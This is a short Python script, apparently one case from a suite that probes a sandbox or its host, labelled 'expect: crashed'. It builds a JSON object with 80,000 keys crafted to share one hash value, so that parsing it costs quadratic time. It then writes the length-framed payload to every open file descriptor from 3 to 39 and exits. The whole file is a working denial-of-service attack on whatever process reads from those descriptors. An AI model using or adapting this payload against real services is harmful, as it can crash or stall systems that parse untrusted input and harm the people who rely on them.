# mechanism: sends a dict whose keys all have one hash, which costs the square of its length to read
# expect: crashed

import json
import os
import struct
import zwc

def f(x):
    zwc.kocito(x)
    key = (1 << 61) - 1
    pairs = ",".join('[{"i":"%#x"},0]' % (key * (k + 16)) for k in range(80_000))
    payload = b'[0,"value",{"d":[' + pairs.encode() + b"]}]"
    frame = memoryview(struct.pack(">I", len(payload)) + payload)
    for descriptor in range(3, 40):
        try:
            while frame:
                frame = frame[os.write(descriptor, frame) :]
        except OSError:
            continue
    os._exit(0)
